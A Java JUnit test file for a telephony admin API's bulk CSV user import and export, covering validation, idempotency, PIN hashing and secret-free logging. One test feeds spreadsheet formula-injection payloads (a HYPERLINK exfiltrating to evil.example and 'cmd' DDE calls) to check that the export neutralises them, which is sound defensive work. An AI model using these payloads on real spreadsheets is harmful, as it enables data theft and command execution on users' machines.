package dialtone.admin;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dialtone.testing.AdminClient;
import dialtone.testing.HttpsClient;
import dialtone.testing.StoredUser;
import dialtone.testing.TestDialtone;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.io.TempDir;

/** Bulk onboarding through {@code users:import} and {@code users:export}. */
class UserImportTest {

    static final String HEADER = "firstName,lastName,username,email,extension,locationId,authorizedUser,pin,mac,model,label";
    @TempDir
    static Path dir;
    static TestDialtone server;
    static AdminClient admin;
    static HttpsClient http;
    static String token;

    @BeforeAll
    static void start() throws Exception {
        server = new TestDialtone(dir);
        admin = server.admin();
        token = server.operatorToken();
        http = new HttpsClient("https://127.0.0.1:" + server.adminPort(), server.certificate());
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    /** 1,000 rows: every 10th with a new device, every 100th an authorized user with a PIN; 10 bad rows. */
    private static Map<Integer, String> thousandRows(String locationId, List<String> lines) {
        Map<Integer, String> bad = new LinkedHashMap<>();
        lines.add(HEADER);
        for (int i = 0; i < 1000; i++) {
            String email = "user" + i + "@example.com";
            String extension = Integer.toString(5000 + i);
            String location = locationId;
            String authorized = i % 100 == 0 ? "true" : "false";
            String pin = i % 100 == 0 ? "2580" : "";
            String mac = i % 10 == 0 ? "0015650a%04x".formatted(i) : "";
            String model = mac.isEmpty() ? "" : "yealink-t46s";
            String extra = "";
            switch (i) {
                case 17 -> { email = "not-an-email"; bad.put(i, "email: must be a valid e-mail address such as name@example.com"); }
                case 111 -> { extension = "12a"; bad.put(i, "extension: must be 2 to 10 digits"); }
                case 222 -> { location = "nowhere"; bad.put(i, "locationId: no such location in this account"); }
                case 333 -> { extension = "5332"; bad.put(i, "extension: is already used in this account"); }
                case 444 -> { authorized = "true"; pin = "1234";
                    bad.put(i, "pin: is too easy to guess (one repeated digit or a straight run)"); }
                case 555 -> { authorized = "maybe"; bad.put(i, "authorizedUser: must be true or false"); }
                case 666 -> { mac = "zz:zz"; model = "yealink-t46s";
                    bad.put(i, "mac: must be 12 hexadecimal digits, optionally separated by ':', '-' or '.'"); }
                case 777 -> { mac = "0015650bffff"; model = "nokia-3310";
                    bad.put(i, "model: is not a known model id (see GET /api/v1/models)"); }
                case 888 -> { extra = ",surplus"; bad.put(i, "row: has 12 cells but the header names 11 columns"); }
                case 999 -> { mac = "0015650cffff"; model = "yealink-t46s"; bad.put(i, "mac: a device with this MAC already exists (MACs are unique across all accounts)"); }
                default -> { }
            }
            lines.add(String.join(",", "First" + i, "\"Last, " + i + "\"", "user" + i, email, extension, location,
                    authorized, pin, mac, model, mac.isEmpty() ? "" : "Desk " + i) + extra);
        }
        return bad;
    }

    private static AdminClient.Reply importCsv(String accountId, String csv) throws Exception {
        HttpResponse<String> response = http.send("POST", "/api/v1/accounts/" + accountId + "/users:import", csv,
                Map.of("Authorization", "Bearer " + token, "Content-Type", "text/csv"));
        return new AdminClient.Reply(response.statusCode(),
                new com.fasterxml.jackson.databind.ObjectMapper().readTree(response.body()), response.body(), response);
    }

    private static int users(String accountId) throws Exception {
        return StoredUser.count(server.config(), "select count(*) from app_user where account_id = ?", accountId);
    }

    @Test
    void anotherAccountIsAnsweredWhileALargeImportHashesItsPins() throws Exception {
        String busy = admin.createAccount("Busy");
        String busyLocation = admin.createLocation(busy, "America/Chicago");
        String calm = admin.createAccount("Calm");
        String calmLocation = admin.createLocation(calm, "America/Chicago");
        List<String> lines = new ArrayList<>(List.of(HEADER));
        for (int i = 0; i < 60; i++) {
            lines.add(String.join(",", "Pin" + i, "Hasher", "hasher" + i, "hasher" + i + "@example.com",
                    Integer.toString(7000 + i), busyLocation, "true", String.format(java.util.Locale.ROOT, "58%04d", 17 + i * 13),
                    "", "", ""));
        }
        String csv = String.join("\r\n", lines) + "\r\n";
        java.util.concurrent.CompletableFuture<AdminClient.Reply> large;
        AdminClient.Reply second;
        do {
            large = java.util.concurrent.CompletableFuture.supplyAsync(() -> {
                try {
                    return importCsv(busy, csv);
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            });
            // The import is running once a second one into the same account is refused (if the probe got
            // there first, the large one is the one refused: start it again).
            do {
                second = importCsv(busy, HEADER + "\r\n");
            } while (second.status() == 200 && !large.isDone());
        } while (second.status() == 200 && large.join().status() == 409);
        assertThat(second.status()).as(second.text()).isEqualTo(409);

        AdminClient.Reply created = admin.post("/accounts/" + calm + "/users", """
                {"firstName":"Cal","lastName":"M","username":"cal.m","email":"cal@example.com","extension":"201",
                 "locationId":"%s","authorizedUser":true,"pin":"583917"}""".formatted(calmLocation));
        AdminClient.Reply listed = admin.get("/accounts/" + calm + "/users");
        boolean importStillRunning = !large.isDone();

        assertThat(created.status()).as(created.text()).isEqualTo(201);
        assertThat(listed.status()).isEqualTo(200);
        assertThat(importStillRunning).as("the other account was answered before the large import finished").isTrue();
        AdminClient.Reply report = large.join();
        assertThat(report.status()).as(report.text()).isEqualTo(200);
        assertThat(users(busy)).isEqualTo(60);
    }

    @Test
    void thousandUsersWithTenBadRowsCreates990ReportsTenAndReRunningCreatesNothing() throws Exception {
        String accountId = admin.createAccount("Bulk");
        String locationId = admin.createLocation(accountId, "America/Chicago");
        admin.createDevice(accountId, "0015650cffff", "yealink-t46s");
        List<String> lines = new ArrayList<>();
        Map<Integer, String> bad = thousandRows(locationId, lines);
        String csv = String.join("\r\n", lines) + "\r\n";

        long start = System.nanoTime();
        AdminClient.Reply first = importCsv(accountId, csv);
        long millis = (System.nanoTime() - start) / 1_000_000;
        assertThat(first.status()).as(first.text().substring(0, Math.min(500, first.text().length()))).isEqualTo(200);
        System.out.println("import of 1,000 rows took " + millis + " ms end to end; server timings "
                + first.json().path("timings"));
        assertThat(first.json().path("created").asInt()).isEqualTo(990);
        assertThat(first.json().path("failed").asInt()).isEqualTo(10);
        assertThat(first.json().path("existing").asInt()).isZero();
        JsonNode rows = first.json().path("rows");
        assertThat(rows).hasSize(1000);
        for (Map.Entry<Integer, String> b : bad.entrySet()) {
            JsonNode row = rows.get(b.getKey());
            assertThat(row.path("line").asInt()).isEqualTo(b.getKey() + 2);
            assertThat(row.path("status").asText()).isEqualTo("failed");
            assertThat(row.path("errors").get(0).path("field").asText() + ": "
                    + row.path("errors").get(0).path("reason").asText()).as("line " + (b.getKey() + 2)).isEqualTo(b.getValue());
            assertThat(row.has("sip") && !row.path("sip").isNull()).isFalse();
        }
        JsonNode good = rows.get(10);
        assertThat(good.path("status").asText()).isEqualTo("created");
        assertThat(good.path("sip").path("password").asText()).hasSize(24);
        assertThat(good.path("mac").asText()).isEqualTo("0015650a000a");
        assertThat(good.path("provisioning").path("password").asText()).hasSize(32);

        // Nothing half-created: the row whose device could not be created left no user behind.
        assertThat(users(accountId)).isEqualTo(990);
        assertThat(StoredUser.count(server.config(), "select count(*) from app_user where username = ?", "user999")).isZero();
        assertThat(StoredUser.count(server.config(), "select count(*) from device where account_id = ?", accountId))
                .isEqualTo(1 + 100);
        assertThat(StoredUser.count(server.config(),
                "select count(*) from app_user where pin_hash like '$argon2id$%' and account_id = ?", accountId))
                .isEqualTo(10);

        AdminClient.Reply again = importCsv(accountId, csv);
        assertThat(again.json().path("created").asInt()).isZero();
        assertThat(again.json().path("existing").asInt()).isEqualTo(990);
        assertThat(again.json().path("failed").asInt()).isEqualTo(10);
        assertThat(again.text()).doesNotContain("\"sip\":{");
        assertThat(users(accountId)).isEqualTo(990);

        HttpResponse<String> export = http.get("/api/v1/accounts/" + accountId + "/users:export",
                Map.of("Authorization", "Bearer " + token));
        assertThat(export.statusCode()).isEqualTo(200);
        assertThat(export.headers().firstValue("Content-Type")).hasValue("text/csv; charset=utf-8");
        String[] exported = export.body().split("\n");
        assertThat(exported[0]).isEqualTo("firstName,lastName,username,email,emailVoicemails,phoneNumber,extension,"
                + "unreachableForward,locationId,timeZone,authorizedUser,enabled,noAnswerForward,noAnswerSeconds,mac,model,label");
        assertThat(exported).hasSize(991);
        assertThat(export.body()).contains("First10,\"Last, 10\",user10,user10@example.com,false,,5010,,\""
                + locationId + "\",,false,true,,,0015650a000a,yealink-t46s,\"Desk 10\"");
        assertThat(export.body()).doesNotContain(good.path("sip").path("password").asText(),
                good.path("provisioning").path("password").asText(), "argon2", "2580");
    }

    @Test
    void exportNeutralisesCellsASpreadsheetWouldRunAsFormulasAndImportingTheExportGivesTheSameValues() throws Exception {
        String accountId = admin.createAccount("Formulas");
        String locationId = admin.createLocation(accountId, "America/Chicago");
        List<String> firstNames = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Plain");
        StringBuilder csv = new StringBuilder("firstName,lastName,username,email,extension,locationId,phoneNumber\n");
        for (int i = 0; i < firstNames.size(); i++) {
            csv.append('"').append(firstNames.get(i).replace("\"", "\"\"")).append("\",Doe,formula").append(i)
                    .append(",f").append(i).append("@example.com,").append(70 + i).append(',').append(locationId)
                    .append(",+1415555010").append(i).append('\n');
        }
        assertThat(importCsv(accountId, csv.toString()).json().path("created").asInt()).isEqualTo(5);

        String export = http.get("/api/v1/accounts/" + accountId + "/users:export",
                Map.of("Authorization", "Bearer " + token)).body();
        List<Map<String, String>> rows = new java.util.ArrayList<>();
        try (var it = new com.fasterxml.jackson.dataformat.csv.CsvMapper().readerFor(Map.class)
                .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader()).readValues(export)) {
            it.forEachRemaining(row -> rows.add((Map<String, String>) row));
        }
        assertThat(rows).hasSize(5);
        for (Map<String, String> row : rows) {
            assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("-").doesNotStartWith("@"));
        }
        assertThat(rows).extracting(row -> row.get("firstName")).containsExactlyInAnyOrder(
                "'" + firstNames.get(0), "'" + firstNames.get(1), "'" + firstNames.get(2), "'" + firstNames.get(3),
                "Plain");
        assertThat(rows).extracting(row -> row.get("phoneNumber")).allSatisfy(n -> assertThat(n).startsWith("'+1415"));

        for (JsonNode user : admin.get("/accounts/" + accountId + "/users").json().path("items")) {
            assertThat(admin.delete("/accounts/" + accountId + "/users/" + user.path("id").asText()).status())
                    .isEqualTo(204);
        }
        assertThat(importCsv(accountId, export).json().path("created").asInt()).isEqualTo(5);
        JsonNode again = admin.get("/accounts/" + accountId + "/users").json().path("items");
        assertThat(again.findValuesAsText("firstName")).containsExactlyInAnyOrderElementsOf(firstNames);
        assertThat(again.findValuesAsText("phoneNumber")).allSatisfy(n -> assertThat(n).startsWith("+1415"));
    }

    @Test
    void aRowWithSendWelcomeEmailQueuesItsEmailAndNoSecretIsLogged() throws Exception {
        String accountId = admin.createAccount("Welcome");
        String locationId = admin.createLocation(accountId, "America/Chicago");
        try (dialtone.testing.LogCapture logs = new dialtone.testing.LogCapture()) {
            AdminClient.Reply reply = importCsv(accountId, """
                    firstName,lastName,username,email,extension,locationId,sendWelcomeEmail,authorizedUser,pin
                    Wen,Li,wen,wen@example.com,301,%s,true,true,4821
                    Kai,Li,kai,kai@example.com,302,%s,no,,
                    """.formatted(locationId, locationId));
            assertThat(reply.json().path("created").asInt()).as(reply.text()).isEqualTo(2);
            String sip = reply.json().path("rows").get(0).path("sip").path("password").asText();
            assertThat(StoredUser.count(server.config(),
                    "select count(*) from email_outbox where recipient = ?", "wen@example.com")).isOne();
            assertThat(StoredUser.count(server.config(),
                    "select count(*) from email_outbox where recipient = ?", "kai@example.com")).isZero();
            assertThat(StoredUser.portalPasswordHash(server.config(), "wen")).startsWith("$argon2id$");
            assertThat(StoredUser.portalPasswordHash(server.config(), "kai")).isNull();
            assertThat(logs.all()).doesNotContain(sip, "4821");
        }
    }

    @Test
    void aFileThatIsNotUsableAsAWholeIsRefusedAndChangesNothing() throws Exception {
        String accountId = admin.createAccount("Refused");
        String locationId = admin.createLocation(accountId, "America/Chicago");
        AdminClient.Reply unknownColumn = importCsv(accountId,
                "firstName,lastName,username,password\nA,B,c," + locationId + "\n");
        assertThat(unknownColumn.status()).isEqualTo(400);
        assertThat(unknownColumn.json().path("errors").get(0).path("field").asText()).isEqualTo("header.password");
        AdminClient.Reply empty = importCsv(accountId, "");
        assertThat(empty.status()).isEqualTo(400);
        assertThat(empty.json().path("errors").get(0).path("field").asText()).isEqualTo("body");
        HttpResponse<String> json = http.send("POST", "/api/v1/accounts/" + accountId + "/users:import", "{}",
                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json"));
        assertThat(json.statusCode()).isEqualTo(415);
        assertThat(users(accountId)).isZero();
    }

    /**
     * A measurement, not a check of speed: run with -Ddialtone.bench=true to see where an import's time goes
     * (1,000 users without PINs, then 1,000 all with PINs, and the cost of one Argon2id hash here).
     */
    @Test
    @EnabledIfSystemProperty(named = "dialtone.bench", matches = "true")
    void measureThousandUsersWithAndWithoutPins() throws Exception {
        long hashStart = System.nanoTime();
        for (int i = 0; i < 10; i++) {
            dialtone.security.PasswordHasher.hash("2580");
        }
        System.out.println("bench: one Argon2id hash (m=19 MiB, t=2, p=1) takes "
                + (System.nanoTime() - hashStart) / 10_000_000 + " ms on one thread");
        java.net.http.HttpClient patient = java.net.http.HttpClient.newBuilder()
                .sslContext(HttpsClient.trusting(server.certificate())).build();
        String accountId = admin.createAccount("Bench");
        String locationId = admin.createLocation(accountId, "America/Chicago");
        for (String variant : new String[] {"", "pin"}) {
            StringBuilder csv = new StringBuilder("firstName,lastName,username,email,extension,locationId,authorizedUser,pin\n");
            for (int i = 0; i < 1000; i++) {
                csv.append("F,L,b").append(variant).append(i).append(",b").append(i).append("@example.com,")
                        .append(variant.isEmpty() ? 7000 + i : 8000 + i).append(',').append(locationId)
                        .append(variant.isEmpty() ? ",false,\n" : ",true,2580\n");
            }
            long start = System.nanoTime();
            HttpResponse<String> reply = patient.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(
                            "https://127.0.0.1:" + server.adminPort() + "/api/v1/accounts/" + accountId + "/users:import"))
                    .timeout(java.time.Duration.ofMinutes(10)).header("Authorization", "Bearer " + token)
                    .header("Content-Type", "text/csv").POST(java.net.http.HttpRequest.BodyPublishers.ofString(csv.toString()))
                    .build(), HttpResponse.BodyHandlers.ofString());
            long millis = (System.nanoTime() - start) / 1_000_000;
            JsonNode report = new com.fasterxml.jackson.databind.ObjectMapper().readTree(reply.body());
            assertThat(report.path("created").asInt()).isEqualTo(1000);
            System.out.println("bench: 1,000 users " + (variant.isEmpty() ? "without PINs" : "all with PINs") + ": "
                    + millis + " ms end to end; server timings " + report.path("timings") + "; cores "
                    + Runtime.getRuntime().availableProcessors());
        }
    }
}
